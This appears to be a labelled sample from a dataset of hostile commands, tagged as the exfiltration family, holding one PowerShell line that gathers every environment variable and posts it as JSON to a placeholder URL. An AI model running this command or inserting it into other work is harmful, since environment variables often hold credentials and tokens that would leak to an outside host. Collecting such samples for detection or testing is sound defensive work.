# description: Sends every environment variable as JSON to a remote URL.
# family: exfiltration
Get-ChildItem env: | ConvertTo-Json | Invoke-RestMethod -Method Post -Uri https://example.com/e -ContentType 'application/json'
